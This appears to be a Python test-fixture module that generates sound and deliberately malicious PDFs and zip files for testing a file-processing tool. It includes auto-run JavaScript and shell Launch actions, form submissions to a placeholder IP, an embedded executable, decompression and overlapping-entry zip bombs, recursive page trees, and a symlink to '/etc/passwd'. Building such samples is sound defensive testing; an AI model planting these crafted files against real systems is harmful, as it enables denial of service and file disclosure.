"""PDF papers and zip files made for tests: sound ones and ones made to harm."""

import stat
import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.evidence.pictures import CANARY


def _saved(paper: pikepdf.Pdf, **facts) -> bytes:
    written = BytesIO()
    paper.save(written, **facts)
    return written.getvalue()


def _new(pages: int = 1, size: tuple[float, float] = (595, 842)) -> pikepdf.Pdf:
    paper = pikepdf.new()
    for _ in range(pages):
        paper.add_blank_page(page_size=(595, 842))
        paper.pages[-1].MediaBox = Array([0, 0, *size])
        paper.pages[-1].Contents = Stream(
            paper, b"1 0 0 rg 0 0 300 842 re f 0 0 1 rg 300 0 300 842 re f"
        )
    return paper


def paper(pages: int = 1, size: tuple[float, float] = (595, 842)) -> bytes:
    """A sound PDF: left half red, right half blue."""
    return _saved(_new(pages, size))


def locked(*, owner_only: bool = False) -> bytes:
    user = "" if owner_only else "secret"
    return _saved(_new(), encryption=pikepdf.Encryption(owner="owner", user=user))


def told() -> bytes:
    """Who wrote it, in both places a PDF has for it, a small picture of it, and pieces of programs."""
    made = _new()
    made.docinfo[Name.Author] = made.docinfo[Name.Title] = CANARY
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = [CANARY]
    made.pages[0].Thumb = Stream(made, CANARY.encode())
    made.Root.PieceInfo = Dictionary(Qz=Dictionary(Private=String(CANARY)))
    return _saved(made)


def with_action(**action) -> bytes:
    """A PDF that does something when it is opened, and again when its page is."""
    made = _new()
    does = made.make_indirect(Dictionary(Type=Name.Action, **action))
    made.Root.OpenAction = does
    made.pages[0].AA = Dictionary(O=does)
    return _saved(made)


def javascript() -> bytes:
    return with_action(S=Name.JavaScript, JS=String(f"app.alert('{CANARY}'); while(1){{}}"))


def launch() -> bytes:
    return with_action(S=Name.Launch, F=String(f"/bin/sh -c {CANARY}"))


def goes_out() -> bytes:
    return with_action(S=Name.URI, URI=String(f"http://192.0.2.1/{CANARY}"))


def with_file() -> bytes:
    """A PDF that carries a program."""
    made = _new()
    made.attachments[f"{CANARY}.exe"] = b"MZ" + CANARY.encode()
    return _saved(made)


def with_form() -> bytes:
    made = _new()
    box = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String(CANARY),
                                        V=String("x"), Rect=Array([10, 10, 100, 40])))  # fmt: skip
    made.pages[0].Annots = Array([box])
    made.Root.AcroForm = Dictionary(
        Fields=Array([box]), XFA=Stream(made, f"<xdp>{CANARY}</xdp>".encode())
    )
    return _saved(made)


def loop_of_pages() -> bytes:
    """A tree of pages that holds itself."""
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]>>endobj\n"
            b"trailer<</Root 1 0 R/Size 3>>\n%%EOF")  # fmt: skip


def lying_count() -> bytes:
    return paper().replace(b"/Count 1", b"/Count 2000000000")


def loop_of_forms() -> bytes:
    """A page that draws a form that draws itself."""
    made = _new()
    form = made.make_stream(
        b"/F Do /F Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 800])
    )
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
    made.pages[0].Contents = Stream(made, b"/F Do")
    return _saved(made)


def large_picture() -> bytes:
    """A page with a picture of two and a half thousand million pixels, which packs to little."""
    made = _new()
    side = 50_000
    drawn = made.make_stream(b"\0" * (side // 8) * 2000, Type=Name.XObject, Subtype=Name.Image, Width=side,
                             Height=side, ColorSpace=Name.DeviceRGB, BitsPerComponent=8)  # fmt: skip
    made.pages[0].Resources = Dictionary(XObject=Dictionary(I=drawn))
    made.pages[0].Contents = Stream(made, b"600 0 0 800 0 0 cm /I Do")
    return _saved(made, compress_streams=True, recompress_flate=True)


def slow_to_draw() -> bytes:
    """A page that asks for a drawing without end."""
    made = _new()
    made.pages[0].Contents = Stream(
        made, b"0 0 595 842 re 10 10 500 800 re W* n\n" + b"0 0 m 595 842 l 9 w S\n" * 60_000
    )
    return _saved(made, compress_streams=True, recompress_flate=True)


def deep_tree_of_pages() -> bytes:
    """A tree of pages five thousand branches deep, with one page at its end."""
    deep = 5_000
    parts = [b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"]
    for number in range(2, deep + 2):
        parts.append(
            f"{number} 0 obj<</Type/Pages/Count 1/Kids[{number + 1} 0 R]>>endobj\n".encode()
        )
    parts.append(f"{deep + 2} 0 obj<</Type/Page/MediaBox[0 0 99 99]>>endobj\n".encode())
    return b"".join(parts) + b"trailer<</Root 1 0 R>>\n%%EOF"


def of_many_pages() -> bytes:
    """Ten thousand pages, all of them one page."""
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Count 10000/Kids[" + b"3 0 R " * 10_000 + b"]>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF")  # fmt: skip


def filters_within_filters() -> bytes:
    """A page whose drawing is packed a hundred times over, and grows with each."""
    data = b"0 0 m 9 9 l S\n" * 2_000_000
    for _ in range(3):
        data = zlib.compress(data, 9)
    made = _new()
    made.pages[0].Contents = made.make_stream(data)
    made.pages[0].Contents.Filter = Array([Name.FlateDecode] * 3)
    return _saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def submits_and_hides() -> bytes:
    """A form that sends itself off, hidden layers, a film, and a link of the old kind (GoToE)."""
    made = _new()
    sends = Dictionary(S=Name.SubmitForm, F=String(f"https://192.0.2.1/{CANARY}"), Flags=4)
    goes = Dictionary(S=Name.GoToE, F=String(f"//192.0.2.1/{CANARY}"), D=String(CANARY))
    film = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, T=String(CANARY), A=goes,
                                         Rect=Array([0, 0, 9, 9])))  # fmt: skip
    made.pages[0].Annots = Array([film])
    made.Root.AA = Dictionary(WC=sends, WS=sends, DP=sends)
    made.Root.OCProperties = Dictionary(OCGs=Array([]), D=Dictionary(Name=String(CANARY)))
    made.Root.URI = Dictionary(Base=String(f"file:///{CANARY}"))
    return _saved(made)


def office_bomb() -> bytes:
    """A paper of an office that grows to half a thousand million letters."""
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"A" * 500_000_000,
                   "notes.txt": CHAT.encode()})  # fmt: skip


def overlapping() -> bytes:
    """A zip file whose thousand entries are one and the same place in it."""
    made = zipped({"_chat.txt": b"a" * 1_000_000})
    place = made.index(b"PK\x01\x02")
    end = made.index(b"PK\x05\x06")
    entry = made[place:end]
    many = 4_000
    directory = entry * many
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, many, many, len(directory), place, 0)
    return made[:place] + directory + tail


# Zip files

CHAT = "3 May, 10:15 - Agency: <Media omitted>\n3 May, 10:16 - Agency: You pay 400 first\n"


def zipped(entries: dict[str, bytes], **facts) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, **facts) as made:
        for name, data in entries.items():
            made.writestr(name, data)
    return written.getvalue()


def marked_locked() -> bytes:
    """A zip file that says of its entry that it is locked."""
    made = zipped({"_chat.txt": CHAT.encode()})
    central = made.index(b"PK\x01\x02")
    made = bytearray(made)
    made[6] |= 1
    made[central + 8] |= 1
    return bytes(made)


def lying_size() -> bytes:
    """A zip file whose entry is longer than it says."""
    made = bytearray(zipped({"_chat.txt": b"a" * 5_000_000}))
    central = made.index(b"PK\x01\x02")
    made[22:26] = made[central + 24 : central + 28] = struct.pack("<I", 10)
    return bytes(made)


def with_link() -> bytes:
    """A zip file whose text is a link to another file."""
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as made:
        link = zipfile.ZipInfo("_chat.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        made.writestr(link, "../../../../etc/passwd")
    return written.getvalue()
